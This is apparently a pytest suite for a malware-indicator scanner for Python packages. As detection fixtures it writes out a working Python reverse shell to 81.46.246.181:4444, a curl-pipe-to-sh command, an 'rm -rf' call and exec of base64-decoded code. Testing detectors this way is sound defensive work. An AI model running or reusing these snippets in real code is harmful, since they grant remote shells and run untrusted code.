import json
import shutil
import tempfile
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import BENIGN, SNIPPETS, snippet_dirs, write_tree
from malind.corpus import SourceFile, discover_packages, load_package
from malind.rules import Confidence, scan_corpus, scan_file, scan_package
from malind.rules.config import ConfigError, load_rule_config
from malind.syntax import parse_source
from malind.taxonomy import Scope, list_indicators, lookup_indicator


def _ids_in(path: Path) -> set[str]:
    return scan_package(load_package(path)).indicator_ids()


def _file_ids(text: str, rel_path: str = "mod.py") -> set[str]:
    out = parse_source(text, rel_path)
    return {f.indicator_id for f in scan_file(out, SourceFile(rel_path, 0, len(text), out.line_count))}


def test_one_fixture_per_indicator():
    names = {d.name for d in snippet_dirs()}
    assert names == {d.id for d in list_indicators()}


@pytest.mark.parametrize("fixture", snippet_dirs(), ids=lambda p: p.name)
def test_snippet_detected(fixture):
    assert fixture.name in _ids_in(fixture)


def test_exec_b64_is_multilabel():
    rep = scan_package(load_package(SNIPPETS / "EXS-002"))
    assert rep.indicator_ids() == {"EXS-002", "EXM-001", "DEF-003"}
    spans = {f.indicator_id: set(range(f.line_start, f.line_end + 1)) for f in rep.findings}
    assert spans["EXS-002"] & spans["EXM-001"] & spans["DEF-003"]


def test_install_hook_reverse_shell():
    ids = _ids_in(SNIPPETS / "tencent10")
    assert {"EXS-003", "NET-008"} <= ids
    assert "EXM-001" not in ids


def test_description_mismatch_needs_behavior():
    ids = _ids_in(SNIPPETS / "MET-005")
    assert {"MET-005", "NET-006"} <= ids


def test_shell_popen():
    assert "EXM-008" in _file_ids('import subprocess\nsubprocess.Popen(f"taskkill /im {procc} /t /f", shell=True)\n')


def test_reverse_shell_statements():
    src = (
        "import socket, os, pty\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        's.connect(("81.46.246.181", 4444))\n'
        "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\n"
        'pty.spawn("bash")\n'
    )
    assert "NET-008" in _file_ids(src)


def test_plain_arithmetic_is_clean():
    assert _file_ids("x = 1 + 1\n") == set()


def test_empty_package(tmp_path):
    (tmp_path / "empty").mkdir()
    rep = scan_package(load_package(tmp_path / "empty"))
    assert rep.findings == () and rep.files_scanned == 0 and rep.lines_scanned == 0 and rep.malicious_lines == 0


@pytest.mark.parametrize("pkg", sorted(p for p in BENIGN.iterdir() if p.is_dir()), ids=lambda p: p.name)
def test_benign_package_is_clean(pkg):
    rep = scan_package(load_package(pkg))
    statement = [f for f in rep.findings if lookup_indicator(f.indicator_id).scope is Scope.STATEMENT]
    assert statement == []
    # no fixture here sets out to trip a metadata threshold
    assert rep.findings == ()


def test_degraded_parse_is_heuristic():
    src = "import os\nos.system('curl http://1.2.3.4/x | sh'\nexec(payload)\n"
    out = parse_source(src, "mod.py")
    assert out.parse_degraded
    findings = scan_file(out, SourceFile("mod.py", 0, len(src), out.line_count))
    assert findings and all(f.confidence is Confidence.HEURISTIC for f in findings)


def test_findings_resolve_and_evidence_is_bounded():
    reports = scan_corpus(discover_packages(SNIPPETS))
    for rep in reports:
        for f in rep.findings:
            lookup_indicator(f.indicator_id)
            assert len(f.evidence) <= 200
            assert 1 <= f.line_start <= f.line_end
        assert rep.malicious_lines <= rep.lines_scanned


def test_scan_is_deterministic_across_jobs():
    pkgs = discover_packages(SNIPPETS)
    one = json.dumps([r.to_dict() for r in scan_corpus(pkgs, jobs=1)], sort_keys=True)
    two = json.dumps([r.to_dict() for r in scan_corpus(pkgs, jobs=1)], sort_keys=True)
    par = json.dumps([r.to_dict() for r in scan_corpus(pkgs, jobs=2)], sort_keys=True)
    assert one == two == par


def test_rule_config_override(tmp_path):
    cfg_path = tmp_path / "rules.yaml"
    cfg_path.write_text("thresholds:\n  randomness: 0.95\n")
    assert load_rule_config(cfg_path).thresholds.randomness == 0.95
    cfg_path.write_text("thresholds:\n  randomness: 3\n")
    with pytest.raises(ConfigError):
        load_rule_config(cfg_path)


def test_snippet_suite_is_fast():
    t0 = time.perf_counter()
    scan_corpus(discover_packages(SNIPPETS))
    assert time.perf_counter() - t0 < 5


# monotonicity: extra files never take findings away from the files already there

EXTRA_FILES = [
    ("helpers.py", "def add(a, b):\n    return a + b\n"),
    ("net.py", "import requests\nrequests.get('https://api.ipify.org').text\n"),
    ("run.py", "import os\nos.system('rm -rf /tmp/x')\n"),
    ("pkg/__init__.py", "from .core import *\n"),
    ("boot.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
    ("quiet.py", "try:\n    import fernet\nexcept Exception:\n    pass\n"),
    ("bad.py", "def broken(:\n    exec(x\n"),
]

# A declared dependency that no file imports is a metadata heuristic; a new
# file importing it withdraws that finding on purpose, so it is excluded here.
def _stable(f) -> bool:
    return not (f.indicator_id == "MET-003" and f.confidence is Confidence.HEURISTIC)


@given(
    st.sampled_from([d.name for d in sorted(SNIPPETS.iterdir())]),
    st.lists(st.sampled_from(EXTRA_FILES), min_size=1, max_size=3, unique_by=lambda x: x[0]),
)
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_adding_files_is_monotone(fixture, extras):
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp) / fixture
        shutil.copytree(SNIPPETS / fixture, root)
        before = scan_package(load_package(root))
        taken = {f.rel_path for f in before.findings}
        extras = [(p, t) for p, t in extras if not (root / p).exists()]
        write_tree(root, dict(extras))
        after = scan_package(load_package(root))
    old = {(f.rel_path, f.line_start, f.line_end, f.indicator_id) for f in before.findings if _stable(f)}
    new = {(f.rel_path, f.line_start, f.line_end, f.indicator_id) for f in after.findings if f.rel_path in taken}
    assert old <= new
